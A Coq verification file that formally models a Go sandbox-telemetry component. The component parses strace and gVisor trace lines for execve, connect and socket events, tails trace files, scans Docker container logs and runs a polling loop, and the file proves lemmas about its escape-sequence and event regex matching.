(* ===== verification/Strace.v ===== *)
(** * The strace telemetry ([pkg/controlplane/docker_logs.go])

    What [DockerLogs] leaves: the expressions that select and rewrite the lines of a
    sandbox's trace, the tailing of the trace files while the sandbox writes them, the
    log stream of a container with a terminal, and the polling loop of the streamer. *)
From S2P Require Import Prelude GoStrings NetIP Platform JsonText GoText Config Json RateLimiter AuditLog Regex DockerLogs.

(** ** The expressions *)

Abbreviation word := (noneOf [cls_s]).
Abbreviation arg := (noneOf [just 44; cls_s]).           (* [^,\s] *)
Abbreviation field := (noneOf [just 44; cls_s; just 125]).  (* [^,\s}] *)

Definition oscRegex : regex :=
  Seq [Lit [27]; Lit (gs "]"); Rep (noneOf [just 7; just 27; just 92]); Alt (Lit [7]) (Lit [27; 92])].
Definition cls_csi (c : Z) : bool := bool_decide (48 <= c <= 57 \/ c = 59 \/ c = 63).
Definition cls_letter (c : Z) : bool := bool_decide (97 <= c <= 122 \/ 65 <= c <= 90).
Definition csiRegex : regex := Seq [Lit [27]; Lit (gs "["); Rep cls_csi; Chr cls_letter].

Definition straceRegex : regex :=
  Seq [Lit (gs "["); Rep cls_s; Plus cls_d; Lit (gs ":"); Rep cls_s; Plus cls_d; Lit (gs "]"); Plus cls_s; Plus word; Plus cls_s; Lit (gs "E"); Plus cls_s;
       Group 1 (Alt (Lit (gs "execve")) (Alt (Lit (gs "connect")) (Alt (Lit (gs "socket")) (Alt (Lit (gs "clone")) (Lit (gs "ptrace"))))));
       Lit (gs "(")].

(** The three expressions share their beginning: a process, [E], and the call. *)
Definition eventRegex (call : gostring) (body : list regex) : regex :=
  Seq ([Group 1 (Plus word); Plus cls_s; Lit (gs "E"); Plus cls_s; Lit call] ++ body).
Definition execveRegex : regex :=
  eventRegex (gs "execve(")
    [Plus arg; Plus cls_s; Group 2 (Plus arg); Lit (gs ","); Plus cls_s; Plus arg; Plus cls_s;
     Group 3 (Seq [Lit (gs "["); Rep (noneOf [just 93]); Lit (gs "]")])].
Definition connectRegex : regex :=
  eventRegex (gs "connect(")
    [Plus (noneOf [just 44]); Lit (gs ","); Plus cls_s; Plus arg; Plus cls_s; Lit (gs "{Family:"); Rep cls_s; Group 2 (Plus field); Lit (gs ",");
     Rep cls_s; Lit (gs "Addr:"); Rep cls_s; Group 3 (Plus field); Lit (gs ",");
     Rep cls_s; Lit (gs "Port:"); Rep cls_s; Group 4 (Plus field); Lit (gs "}")].
Definition socketRegex : regex :=
  eventRegex (gs "socket(")
    [Group 2 (Plus arg); Lit (gs ","); Rep cls_s; Group 3 (Plus arg); Lit (gs ","); Rep cls_s; Group 4 (Plus (noneOf [just 41; cls_s])); Lit (gs ")")].

(** ** The rewriting of a line *)

Definition sp : gostring := gs " ".

(** The cleaned line is ASCII, so that its runes are its bytes. *)
Definition formatStraceLine (line : gostring) : go gostring :=
  let cleaned := cleanLogLine line in
  match FindStringSubmatch 3 execveRegex cleaned with
  | Some [_; procName; cmdPath; cmdArgs] => Ret (procName ++ sp ++ cmdPath ++ sp ++ cmdArgs)
  | _ =>
  match FindStringSubmatch 4 connectRegex cleaned with
  | Some [_; procName; family; addr; port] =>
      if decide (family = gs "AF_INET6") then Ret (procName ++ gs " connected to [" ++ addr ++ gs "]:" ++ port)
      else Ret (procName ++ gs " connected to " ++ addr ++ gs ":" ++ port)
  | _ =>
  match FindStringSubmatch 4 socketRegex cleaned with
  | Some [_; procName; domain; m3; protocol] =>
      let sockType := match Split m3 124 with t :: _ => t | [] => [] end in
      Ret (procName ++ gs " created socket: " ++ domain ++ sp ++ sockType ++ sp ++ protocol)
  | _ =>
  match Index cleaned (gs "strace.go:") with
  | Some idx =>
      sub ← slice cleaned idx (len cleaned);
      match Index sub (gs "] ") with
      | Some endIdx => slice sub (endIdx + 2) (len sub)
      | None => Ret cleaned
      end
  | None => Ret cleaned
  end end end end.

(** ** Tailing a trace file *)

(** What the file holds beyond the reader, and [partialLine]. *)
Record tail := { tl_unread : bytes; tl_partial : bytes }.

(** One round of the loop: [ReadString] returns a line with its end, or meets the end of
    the file and returns what there is. *)
Definition tailRead (t : tail) : option gostring * tail :=
  match IndexByte (tl_unread t) 10 with
  | None => (None, {| tl_unread := []; tl_partial := if decide (len (tl_unread t) > 0) then tl_partial t ++ tl_unread t else tl_partial t |})
  | Some idx =>
      let line := take (Z.to_nat (idx + 1)) (tl_unread t) in
      let rest := drop (Z.to_nat (idx + 1)) (tl_unread t) in
      if decide (len (tl_partial t) > 0) then (Some (tl_partial t ++ line), {| tl_unread := rest; tl_partial := [] |})
      else (Some line, {| tl_unread := rest; tl_partial := tl_partial t |})
  end.

(** What becomes of a line. *)
Definition traceLine (ipAddress fullLine : gostring) : go (list call) :=
  let fullLine := TrimSpace fullLine in
  if decide (fullLine = []) then Ret []
  else if MatchString straceRegex (runes fullLine) then
    line ← formatStraceLine fullLine; Ret [CallCommand ipAddress line]
  else Ret [].

(** The sandbox writes while the reader polls, until the context is cancelled. *)
Inductive tailEvent : Type := Append (d : bytes) | Poll.

Fixpoint tailRun (t : tail) (evs : list tailEvent) : list gostring * tail :=
  match evs with
  | [] => ([], t)
  | Append d :: evs => tailRun {| tl_unread := tl_unread t ++ d; tl_partial := tl_partial t |} evs
  | Poll :: evs =>
      let '(line, t) := tailRead t in
      let '(lines, t) := tailRun t evs in
      (match line with Some l => l :: lines | None => lines end, t)
  end.

Fixpoint traceLines (ipAddress : gostring) (lines : list gostring) : go (list call) :=
  match lines with
  | [] => Ret []
  | l :: lines => cs ← traceLine ipAddress l; cs' ← traceLines ipAddress lines; Ret (cs ++ cs')
  end.

(** [startTailing]; the file is read from its beginning. *)
Definition startTailing (ipAddress : gostring) (content : bytes) (evs : list tailEvent) : go (list call) :=
  traceLines ipAddress (fst (tailRun {| tl_unread := content; tl_partial := [] |} evs)).

(** A round of [streamGvisorLogs]: the files that match, or an error; the files whose
    tailing starts. *)
Definition tailNew (tailed : gset gostring) (files : option (list gostring)) : gset gostring * list gostring :=
  match files with
  | None => (tailed, [])
  | Some files => foldl (fun '(tailed, started) f => if decide (f ∈ tailed) then (tailed, started) else ({[f]} ∪ tailed, started ++ [f])) (tailed, []) files
  end.
Fixpoint streamGvisorLogs (tailed : gset gostring) (rounds : list (option (list gostring))) : gset gostring * list gostring :=
  match rounds with
  | [] => (tailed, [])
  | files :: rounds =>
      let '(tailed, started) := tailNew tailed files in
      let '(tailed, started') := streamGvisorLogs tailed rounds in (tailed, started ++ started')
  end.

(** ** The log stream of a container *)

(** [bufio.Scanner] by lines: a line, with its end, has to fit in the buffer of 65536
    bytes, or the scanner stops; one carriage return before the end is dropped.  The
    fuel is the length of the stream. *)
Definition MaxScanTokenSize : Z := 65536.
Definition dropCR (l : gostring) : gostring := match reverse l with 13 :: r => reverse r | _ => l end.
Fixpoint scanLoop (fuel : nat) (stream : bytes) : go (list gostring) :=
  match fuel with
  | O => Hang
  | S fuel =>
      match IndexByte (take (Z.to_nat MaxScanTokenSize) stream) 10 with
      | Some i =>
          line ← slice stream 0 i;
          rest ← slice stream (i + 1) (len stream);
          lines ← scanLoop fuel rest;
          Ret (dropCR line :: lines)
      | None => Ret (if decide (len stream >= MaxScanTokenSize) then [] else if decide (stream = []) then [] else [dropCR stream])
      end
  end.
Definition scanLines (stream : bytes) : go (list gostring) := scanLoop (S (length stream)) stream.

(** Whether a container has a terminal. *)
Definition decConfig : decoder bool := decStruct (fun c m => Json.field decBool m (gs "Tty") c).
Definition decInspect : decoder bool := decStruct (fun c m => Json.field decConfig m (gs "Config") c).

(** [inspect]: the body of the engine's answer about the container; [logs]: the status and
    the body of its logs. *)
Definition streamContainerLogs (logStdout : bool) (ipAddress : gostring) (inspect : option bytes) (logs : option (Z * bytes)) : go (list call) :=
  match (inspect ≫= decodeAnswer decInspect false : option bool) with
  | None => Ret []
  | Some isTty =>
      match logs with
      | None => Ret []
      | Some (status, body) =>
          if decide (status <> 200) then Ret []
          else if isTty then lines ← scanLines body; Ret (flat_map (processLine logStdout ipAddress) lines)
          else streamFrames logStdout ipAddress body
      end
  end.

(** ** The polling loop *)

(** The engine's answer while the streamer boots. *)
Inductive bootAnswer : Type := BootRequestError (err : gostring) | BootDialError (err : gostring) | BootStatus (code : Z).

(** A round: the answer, what a discovery would see, the order of the table, the stdout
    streams that ended meanwhile, and whether [select] finds the context done. *)
Record Round := {
  rd_boot : bootAnswer;
  rd_containers : option bytes;
  rd_files : option (list (gostring * bool));
  rd_order : list gostring;
  rd_ended : gset gostring;
  rd_done : bool;
}.

(** The tables, the effects so far, and whether [Start] has returned. *)
Record Streamer := { sm_active : gset gostring; sm_names : ContainerIpMap; sm_effects : list effect; sm_returned : bool }.

Section Start.
Context {MR : MapRange} (streamStdout streamGvisor : bool) (myHostname : gostring).

Definition discovered (s : Streamer) (r : gset gostring * ContainerIpMap * list effect) : Streamer :=
  let '(active, names, effects) := r in
  {| sm_active := active; sm_names := names; sm_effects := sm_effects s ++ effects; sm_returned := false |}.
Definition emit (s : Streamer) (c : call) : Streamer :=
  {| sm_active := sm_active s; sm_names := sm_names s; sm_effects := sm_effects s ++ [Log c]; sm_returned := sm_returned s |}.
Definition finish (s : Streamer) : Streamer :=
  {| sm_active := sm_active s; sm_names := sm_names s; sm_effects := sm_effects s; sm_returned := true |}.

(** One discovery; the deferred deletions of streams that ended come first. *)
Definition discoverRound (useDocker : bool) (s : Streamer) (r : Round) : go Streamer :=
  let active := sm_active s ∖ rd_ended r in
  if useDocker then
    res ← discoverAndStream streamStdout streamGvisor myHostname (rd_order r) active (sm_names s) (rd_containers r);
    Ret (discovered s res)
  else Ret (discovered s (discoverAndStreamDirect streamGvisor (rd_order r) active (sm_names s) (rd_files r))).

Fixpoint pollLoop (useDocker : bool) (s : Streamer) (rounds : list Round) : go Streamer :=
  match rounds with
  | [] => Ret s
  | r :: rounds =>
      if rd_done r then
        let '(active, effects) := StopAll (rd_order r) (sm_active s ∖ rd_ended r) in
        Ret (finish (discovered s (active, sm_names s, effects)))
      else s ← discoverRound useDocker s r; pollLoop useDocker s rounds
  end.

Fixpoint bootLoop (s : Streamer) (rounds : list Round) : go Streamer :=
  match rounds with
  | [] => Ret s
  | r :: rounds =>
      match rd_boot r with
      | BootStatus 200 =>
          s ← discoverRound true (emit s (CallSystem (gs "Docker API connection established. Monitoring sandboxed container executions..."))) r;
          pollLoop true s rounds
      | a =>
          let s := emit s (CallError (match a with
            | BootStatus code => gs "Docker API responded with HTTP " ++ fmt_d code ++ gs " during telemetry boot. Retrying..."
            | BootDialError err => gs "Failed to dial Docker socket: " ++ err ++ gs ". Retrying..."
            | BootRequestError err => gs "Failed to construct HTTP request for Docker socket: " ++ err
            end)) in
          if rd_done r then Ret (finish s) else bootLoop s rounds
      end
  end.

(** [useDocker]: the engine's socket exists. *)
Definition streamerStart (useDocker : bool) (rounds : list Round) : go Streamer :=
  let s := {| sm_active := ∅; sm_names := ∅; sm_effects := []; sm_returned := false |} in
  if useDocker then bootLoop (emit s (CallSystem (gs "Initializing Docker socket telemetry connection..."))) rounds
  else
    let s := emit s (CallSystem (gs "Docker socket not found at /var/run/docker.sock. Falling back to direct gVisor directory telemetry...")) in
    match rounds with
    | [] => Ret s
    | r :: rounds => s ← discoverRound false s r; pollLoop false s rounds
    end.
End Start.

(** ** The escape matchers are the expressions *)

Lemma accepts_Alt r1 r2 rs s rest cs : accepts (Alt r1 r2 :: rs) s rest cs <-> accepts (r1 :: rs) s rest cs \/ accepts (r2 :: rs) s rest cs.
Proof.
  rewrite !accepts_cons. split.
  - intros (w & t & c1 & c2 & -> & -> & Hm & H). inversion Hm; subst; [left|right]; eauto 10.
  - intros [(w & t & c1 & c2 & -> & -> & Hm & H)|(w & t & c1 & c2 & -> & -> & Hm & H)]; exists w, t, c1, c2; repeat split; try done; by constructor.
Qed.

Lemma oscBody_cons c s :
  oscBody (c :: s) =
    if decide (c = 7) then Some s
    else if decide (c = 27) then match s with d :: s' => if decide (d = 92) then Some s' else None | [] => None end
    else if decide (c = 92) then None else oscBody s.
Proof.
  destruct (decide (c = 7)) as [->|H7]; [done|]. destruct (decide (c = 27)) as [->|H27].
  { destruct s as [|d s]; [done|]. destruct (decide (d = 92)) as [->|Hd]; [done|]. cbn [oscBody]. repeat (case_match; try done). }
  cbn [oscBody]. destruct (decide (c = 92)) as [->|H92]; [done|]. repeat (case_match; subst; try done); naive_solver.
Qed.

(** The rest of an [oscRegex] match. *)
Definition oscEnd : list regex := [Rep (noneOf [just 7; just 27; just 92]); Alt (Lit [7]) (Lit [27; 92])].

Lemma osc_class c : noneOf [just 7; just 27; just 92] c = true <-> c <> 7 /\ c <> 27 /\ c <> 92.
Proof. unfold noneOf, just. simpl. repeat case_bool_decide; simpl; split; try done; naive_solver. Qed.

Lemma oscBody_spec s rest : oscBody s = Some rest <-> exists cs, accepts oscEnd s rest cs.
Proof.
  assert (forall t, (exists cs, accepts [Alt (Lit [7]) (Lit [27; 92])] t rest cs) <-> t = 7 :: rest \/ t = 27 :: 92 :: rest) as Hz.
  { intros t. setoid_rewrite accepts_Alt. setoid_rewrite accepts_Lit. setoid_rewrite accepts_nil. naive_solver. }
  unfold oscEnd. setoid_rewrite accepts_Rep. split.
  - revert rest Hz. induction s as [|c s IH]; intros rest Hz; [done|]. rewrite oscBody_cons.
    destruct (decide (c = 7)) as [->|H7]; [intros [= ->]; destruct (proj2 (Hz (7 :: rest))) as [cs H]; [auto|by exists cs, [], (7 :: rest)]|].
    destruct (decide (c = 27)) as [->|H27].
    { destruct s as [|d s]; [done|]. case_decide; subst; [|done]. intros [= ->]. destruct (proj2 (Hz (27 :: 92 :: rest))) as [cs H]; [auto|].
      by exists cs, [], (27 :: 92 :: rest). }
    case_decide as H92; [done|]. intros (cs & a & t & -> & Ha & H)%IH; [|done]. exists cs, (c :: a), t. split; [done|]. split; [|done].
    constructor; [by apply osc_class|done].
  - intros (cs & a & t & -> & Ha & H). assert (t = 7 :: rest \/ t = 27 :: 92 :: rest) as Ht by (apply Hz; eauto). clear H.
    induction Ha as [|c a Hc Ha IH]; [by destruct Ht as [-> | ->]|]. apply osc_class in Hc as (? & ? & ?). simpl app.
    rewrite oscBody_cons. by rewrite !decide_False by done.
Qed.

Lemma csiBody_spec s rest : csiBody s = Some rest <-> exists cs, accepts [Rep cls_csi; Chr cls_letter] s rest cs.
Proof.
  assert (forall t, (exists cs, accepts [Chr cls_letter] t rest cs) <-> exists z, t = z :: rest /\ cls_letter z = true) as Hz.
  { intros t. setoid_rewrite accepts_cons. setoid_rewrite accepts_nil. setoid_rewrite matches_Chr. split.
    - intros (cs & w & u & c1 & c2 & -> & -> & (c & -> & -> & Hc) & -> & ->). by exists c.
    - intros (z & -> & Hz). exists [], [z], rest, [], []. eauto 10. }
  setoid_rewrite accepts_Rep. assert (forall c, cls_csi c = true <-> 48 <= c <= 57 \/ c = 59 \/ c = 63) as Hc by (intros; apply bool_decide_eq_true).
  assert (forall c, cls_letter c = true <-> 97 <= c <= 122 \/ 65 <= c <= 90) as Hl by (intros; apply bool_decide_eq_true). split.
  - revert rest Hz. induction s as [|c s IH]; intros rest Hz; [done|]. cbn [csiBody]. case_decide as H1.
    + intros (cs & a & t & -> & Ha & H)%IH; [|done]. exists cs, (c :: a), t. split; [done|]. split; [|done]. constructor; [by apply Hc|done].
    + case_decide as H2; [|done]. intros [= ->]. destruct (proj2 (Hz (c :: rest))) as [cs H]; [exists c; rewrite Hl; split; [done|lia]|].
      by exists cs, [], (c :: rest).
  - intros (cs & a & t & -> & Ha & H). assert (exists z, t = z :: rest /\ cls_letter z = true) as (z & -> & Hzl) by (apply Hz; eauto). clear H.
    apply Hl in Hzl. induction Ha as [|c a H Ha IH]; cbn [csiBody app].
    + rewrite decide_False by lia. by rewrite decide_True by lia.
    + apply Hc in H. by rewrite decide_True.
Qed.

(** The text after an escape is the same for the matchers and for the expressions: each
    text has at most one match of either at its start. *)
Lemma matchOsc_regex s rest : matchOsc s = Some rest <-> exists cs w, s = w ++ rest /\ matches oscRegex w cs.
Proof.
  change (matchOsc s = Some rest <-> exists cs, accepts (Lit [27] :: Lit (gs "]") :: oscEnd) s rest cs).
  setoid_rewrite accepts_Lit. setoid_rewrite accepts_Lit. split.
  - destruct s as [|c [|d s]]; try (simpl; by repeat (case_match; try done)). destruct (decide (c = 27 /\ d = 93)) as [[-> ->]|Hn].
    + intros (cs & H)%oscBody_spec. exists cs, (93 :: s). split; [done|]. by exists s.
    + simpl. repeat (case_match; subst; try done). naive_solver.
  - intros (cs & t & -> & u & -> & H). apply oscBody_spec. eauto.
Qed.

Lemma matchCsi_regex s rest : matchCsi s = Some rest <-> exists cs w, s = w ++ rest /\ matches csiRegex w cs.
Proof.
  change (matchCsi s = Some rest <-> exists cs, accepts [Lit [27]; Lit (gs "["); Rep cls_csi; Chr cls_letter] s rest cs).
  setoid_rewrite accepts_Lit. setoid_rewrite accepts_Lit. split.
  - destruct s as [|c [|d s]]; try (simpl; by repeat (case_match; try done)). destruct (decide (c = 27 /\ d = 91)) as [[-> ->]|Hn].
    + intros (cs & H)%csiBody_spec. exists cs, (91 :: s). split; [done|]. by exists s.
    + simpl. repeat (case_match; subst; try done). naive_solver.
  - intros (cs & t & -> & u & -> & H). apply csiBody_spec. eauto.
Qed.

(** ** The first match of an event *)

Fixpoint dropWhile (p : Z -> bool) (s : list Z) : list Z := match s with c :: s' => if p c then dropWhile p s' else s | [] => [] end.

Lemma dropWhile_all p x y : Forall (fun c => p c = true) x -> stops p y -> dropWhile p (x ++ y) = y.
Proof.
  intros Hx Hy. induction Hx as [|c x Hc Hx IH]; simpl; [|by rewrite Hc]. destruct y as [|c y]; [done|]. simpl. by rewrite (Hy c y).
Qed.
Lemma dropWhile_stops_app p x y : stops p y -> dropWhile p (x ++ y) = dropWhile p x ++ y.
Proof. intros Hy. induction x as [|c x IH]; simpl; [by apply (dropWhile_all p [] y)|]. by destruct (p c). Qed.
Lemma dropWhile_app p x c z y : p c = false -> dropWhile p ((x ++ c :: z) ++ y) = dropWhile p (x ++ c :: z) ++ y.
Proof. intros Hc. induction x as [|d x IH]; simpl; [by rewrite Hc|]. by destruct (p d). Qed.
Lemma dropWhile_suffix p s : dropWhile p s `suffix_of` s.
Proof. induction s as [|c s IH]; [done|]. simpl. destruct (p c); [by apply suffix_cons_r|done]. Qed.

(** The text after the first word and the blanks that follow it. *)
Definition skipWord (s : list Z) : list Z := dropWhile cls_s (dropWhile word s).

Lemma word_not_blank c : word c = true <-> cls_s c = false.
Proof. unfold noneOf. simpl. by destruct (cls_s c). Qed.

Lemma skipWord_spec x b y :
  Forall (fun c => word c = true) x -> Forall (fun c => cls_s c = true) b -> b <> [] -> stops cls_s y -> skipWord (x ++ b ++ y) = y.
Proof.
  intros Hx Hb Hn Hy. unfold skipWord. rewrite (dropWhile_all word x (b ++ y)); [by apply dropWhile_all|done|].
  destruct b as [|c b]; [done|]. apply stops_cons. apply Forall_cons in Hb as [Hc _]. unfold noneOf. simpl. by rewrite Hc.
Qed.

Lemma skipWord_app t c y : cls_s c = true -> stops cls_s y -> skipWord ((t ++ [c]) ++ y) = skipWord (t ++ [c]) ++ y.
Proof.
  intros Hc Hy. unfold skipWord. rewrite dropWhile_app by (unfold noneOf; simpl; by rewrite Hc). by apply dropWhile_stops_app.
Qed.

Lemma skipWord_suffix s : skipWord s `suffix_of` s.
Proof. unfold skipWord. etrans; apply dropWhile_suffix. Qed.

(** A suffix of a text that ends in [c] is empty or ends in [c]. *)
Lemma suffix_snoc {A} (t s : list A) c : t `suffix_of` s ++ [c] -> t = [] \/ exists u, t = u ++ [c].
Proof.
  intros [k Hk]. destruct t as [|d t] using rev_ind; [by left|right]. rewrite app_assoc in Hk. apply app_inj_tail in Hk as [_ ->]. eauto.
Qed.

Definition blank (c : Z) : Prop := cls_s c = true.
Definition dark (c : Z) : Prop := cls_s c = false.

(** At the start of an event the third word begins with the call. *)
Lemma event_skip call body s rest cs :
  call <> [] -> Forall dark call -> accepts ([Group 1 (Plus word); Plus cls_s; Lit (gs "E"); Plus cls_s; Lit call] ++ body) s rest cs ->
  exists y, skipWord (skipWord s) = call ++ y.
Proof.
  intros Hne Hcall. cbn [app]. intros (w & t & c1 & c2 & -> & -> & (-> & Hnw & Hw)%matches_Plus & H)%accepts_Group.
  apply accepts_Plus in H as (b & t1 & -> & Hnb & Hb & H). apply accepts_Lit in H as (t2 & -> & H).
  apply accepts_Plus in H as (b2 & t3 & -> & Hnb2 & Hb2 & H). apply accepts_Lit in H as (y & -> & _). exists y.
  rewrite (skipWord_spec w b) by (try done; by apply stops_cons). apply (skipWord_spec (gs "E") b2); [by repeat constructor|done..|].
  destruct call as [|c call]; [done|]. apply Forall_cons in Hcall as [Hc _]. by apply stops_cons.
Qed.

Lemma prefix_dark call (t : list Z) c y z :
  Forall dark call -> blank c -> call ++ y = (t ++ [c]) ++ z -> exists u, t = call ++ u.
Proof.
  intros Hcall Hc E. revert t E. induction Hcall as [|d call Hd Hcall IH]; intros t E; [by exists t|].
  destruct t as [|d' t]; simpl in E.
  - injection E as -> _. unfold blank, dark in *. congruence.
  - injection E as -> E. destruct (IH t) as [u ->]; [by rewrite E, <- app_assoc|]. by exists u.
Qed.

(** Inside a text. *)
Definition within (s sub : gostring) : Prop := exists a b, s = a ++ sub ++ b.

Lemma Index_within s sub : is_Some (Index s sub) <-> within s sub.
Proof.
  assert (forall s, HasPrefix s sub = true -> within s sub) as Hp.
  { intros t [b ->]%HasPrefix_true. by exists [], b. }
  induction s as [|c s IH]; cbn [Index].
  - destruct (HasPrefix [] sub) eqn:E; [split; [auto|by eexists]|]. split; [by intros [? [=]]|]. intros (a & b & H).
    symmetry in H. apply app_eq_nil in H as [-> H]. apply app_eq_nil in H as [-> ->]. unfold HasPrefix in E. by rewrite bool_decide_true in E.
  - destruct (HasPrefix (c :: s) sub) eqn:E; [split; [auto|by eexists]|]. rewrite fmap_is_Some, IH. split.
    + intros (a & b & ->). by exists (c :: a), b.
    + intros ([|d a] & b & H); simpl in H; [|injection H as -> ->; by exists a, b].
      apply not_true_iff_false in E. exfalso. apply E, HasPrefix_true. by exists b.
Qed.

Lemma Contains_within s sub : Contains s sub = true <-> within s sub.
Proof. unfold Contains. rewrite bool_decide_eq_true. apply Index_within. Qed.

Lemma within_app_l s t sub : within s sub -> within (s ++ t) sub.
Proof. intros (a & b & ->). exists a, (b ++ t). by rewrite <- !app_assoc. Qed.
Lemma within_app_r s t sub : within s sub -> within (t ++ s) sub.
Proof. intros (a & b & ->). exists (t ++ a), b. by rewrite <- !app_assoc. Qed.

Lemma dark_blank : word 32 = false.
Proof. done. Qed.

(** No event starts in the text before the process, if the call is not named there. *)
Lemma event_first call body pre proc tl :
  (forall y, call <> 69 :: y) -> call <> [] -> Forall dark call -> Forall dark proc -> proc <> [] -> ~ within (pre ++ sp ++ proc) call ->
  forall a1 c a2, pre ++ sp = a1 ++ c :: a2 ->
  forall rest cs, ~ accepts ([Group 1 (Plus word); Plus cls_s; Lit (gs "E"); Plus cls_s; Lit call] ++ body) (c :: a2 ++ proc ++ gs " E " ++ tl) rest cs.
Proof.
  intros HE Hne Hcall Hproc Hnp Hno a1 c a2 Ea rest cs Hacc. apply event_skip in Hacc as [y Hy]; [|done..].
  set (S := proc ++ gs " E " ++ tl) in *. change (c :: a2 ++ S) with ((c :: a2) ++ S) in Hy.
  assert (stops cls_s S) as HS. { destruct proc as [|d proc]; [done|]. apply Forall_cons in Hproc as [Hd _]. by apply stops_cons. }
  assert (forall t, t `suffix_of` pre ++ sp -> ~ within t call) as Hsuf.
  { intros t [k Hk] Hw. apply Hno. rewrite app_assoc. apply within_app_l. rewrite Hk. by apply within_app_r. }
  assert (c :: a2 `suffix_of` pre ++ sp) as Hca by (exists a1; done).
  destruct (suffix_snoc _ pre 32 Hca) as [|[t Ht]]; [done|]. rewrite Ht in Hy, Hca. rewrite skipWord_app in Hy by done.
  assert (skipWord (t ++ [32]) `suffix_of` pre ++ sp) as H2 by (by etrans; [apply skipWord_suffix|]).
  destruct (suffix_snoc _ pre 32 H2) as [E2|[t2 E2]].
  - rewrite E2 in Hy. simpl app in Hy. unfold S in Hy. change (gs " E " ++ tl) with (sp ++ gs "E " ++ tl) in Hy.
    rewrite skipWord_spec in Hy; [|by eapply Forall_impl; [exact Hproc|]; intros d; apply word_not_blank|by repeat constructor|done|by apply stops_cons].
    destruct call as [|d call]; [done|]. simpl in Hy. injection Hy as <- _. by eapply HE.
  - rewrite E2 in Hy, H2. rewrite skipWord_app in Hy by done.
    assert (skipWord (t2 ++ [32]) `suffix_of` pre ++ sp) as H3 by (by etrans; [apply skipWord_suffix|]).
    destruct (suffix_snoc _ pre 32 H3) as [E3|[t3 E3]]; rewrite E3 in Hy.
    + simpl app in Hy. unfold S in Hy. change (gs " E " ++ tl) with ([32] ++ gs "E " ++ tl) in Hy. symmetry in Hy. rewrite app_assoc in Hy.
      apply prefix_dark in Hy as [u ->]; [|done..]. apply Hno, within_app_r, within_app_r. by exists [], u.
    + symmetry in Hy. apply prefix_dark in Hy as [u ->]; [|done..]. rewrite E3 in H3. apply (Hsuf _ H3). exists [], (u ++ [32]). by rewrite <- app_assoc.
Qed.

(** ** The groups of an event *)

Lemma Forall_word s : Forall dark s -> Forall (fun c => word c = true) s.
Proof. intros H. eapply Forall_impl; [exact H|]. intros c. apply word_not_blank. Qed.

Lemma class_word c : word c = true -> cls_s c = false.
Proof. apply word_not_blank. Qed.
Lemma class_blank c : cls_s c = true -> word c = false.
Proof. unfold noneOf. simpl. by intros ->. Qed.

Lemma event_accepts call body proc tl rest cs :
  call <> [] -> Forall dark call -> Forall dark proc -> proc <> [] ->
  accepts ([Group 1 (Plus word); Plus cls_s; Lit (gs "E"); Plus cls_s; Lit call] ++ body) (proc ++ gs " E " ++ call ++ tl) rest cs <->
  exists c, cs = (1%nat, proc) :: c /\ accepts body tl rest c.
Proof.
  intros Hne Hcall Hproc Hnp. cbn [app]. change (gs " E " ++ call ++ tl) with (sp ++ gs "E" ++ sp ++ call ++ tl).
  assert (exists c l, call = c :: l /\ cls_s c = false) as (c0 & l0 & -> & Hc0).
  { destruct call as [|c l]; [done|]. apply Forall_cons in Hcall as [Hc _]. eauto. }
  rewrite step_Group; [|by apply Forall_word|by apply stops_cons|apply starts_off_Plus, class_blank|done].
  assert (forall c, accepts (Plus cls_s :: Lit (gs "E") :: Plus cls_s :: Lit (c0 :: l0) :: body) (sp ++ gs "E" ++ sp ++ (c0 :: l0) ++ tl) rest c <->
    accepts body tl rest c) as Hs; [|by setoid_rewrite Hs].
  intros c. rewrite step_Plus; [|by repeat constructor|by apply stops_cons|by apply starts_off_Lit|done]. rewrite step_Lit.
  rewrite step_Plus; [|by repeat constructor|by apply stops_cons|by apply starts_off_Lit|done]. by rewrite step_Lit.
Qed.

(** An event whose body has one reading is found at its process. *)
Lemma event_found call body pre proc tl caps :
  (forall y, call <> 69 :: y) -> call <> [] -> Forall dark call -> Forall dark proc -> proc <> [] -> ~ within (pre ++ sp ++ proc) call ->
  (exists rest, accepts body tl rest caps) -> (forall rest cs, accepts body tl rest cs -> cs = caps) ->
  exists a w b, find (eventRegex call body) (pre ++ sp ++ proc ++ gs " E " ++ call ++ tl) = Some (a, (w, b, (1%nat, proc) :: caps)).
Proof.
  intros HE Hne Hcall Hproc Hnp Hno [rest0 Hex] Huniq. rewrite app_assoc. exists (pre ++ sp). unfold eventRegex.
  assert (forall rest cs, accepts ([Group 1 (Plus word); Plus cls_s; Lit (gs "E"); Plus cls_s; Lit call] ++ body) (proc ++ gs " E " ++ call ++ tl) rest cs <->
    exists c, cs = (1%nat, proc) :: c /\ accepts body tl rest c) as Hev by (intros; by apply event_accepts).
  apply find_accepts.
  - intros a1 c a2 Ea rest cs. by eapply event_first.
  - exists rest0. apply Hev. eauto.
  - intros rest cs (c & -> & H)%Hev. by rewrite (Huniq _ _ H).
Qed.

(** An event that is found names its call. *)
Lemma event_named call body s x : find (eventRegex call body) s = Some x -> within s call.
Proof.
  destruct x as [a [[w b] cs]]. intros [-> H]%find_Some. unfold eventRegex in H. cbn [app] in H.
  repeat (apply matches_Seq in H as (? & ? & ? & ? & -> & -> & ? & H)). 
  repeat match goal with Hm : matches (Lit _) _ _ |- _ => apply matches_Lit in Hm as [-> _] end.
  eapply within_app_r, within_app_l. do 4 apply within_app_r. eexists [], _. reflexivity.
Qed.

Lemma event_absent n call body s : ~ within s call -> FindStringSubmatch n (eventRegex call body) s = None.
Proof. intros Hn. unfold FindStringSubmatch. destruct (find _ s) eqn:E; [|done]. by apply event_named in E. Qed.

(** *** The bodies *)

Definition all (p : Z -> bool) (s : gostring) : Prop := s <> [] /\ Forall (fun c => p c = true) s.

Lemma arg_blank c : arg c = true -> cls_s c = false.
Proof. unfold noneOf. simpl. by destruct (just 44 c), (cls_s c). Qed.
Lemma blank_arg c : cls_s c = true -> arg c = false.
Proof. unfold noneOf. simpl. intros ->. by destruct (just 44 c). Qed.
Lemma field_blank c : field c = true -> cls_s c = false.
Proof. unfold noneOf. simpl. by destruct (just 44 c), (cls_s c). Qed.
Lemma protocol_blank c : noneOf [just 41; cls_s] c = true -> cls_s c = false.
Proof. unfold noneOf. simpl. by destruct (just 41 c), (cls_s c). Qed.

Lemma stops_all p q x y : all q x -> (forall c, q c = true -> p c = false) -> stops p (x ++ y).
Proof. intros [Hn Hx] Hq. destruct x as [|c x]; [done|]. apply Forall_cons in Hx as [Hc _]. by apply stops_cons, Hq. Qed.
Lemma all_nonnil p x : all p x -> x <> [].
Proof. by intros []. Qed.
Lemma all_Forall p x : all p x -> Forall (fun c => p c = true) x.
Proof. by intros []. Qed.

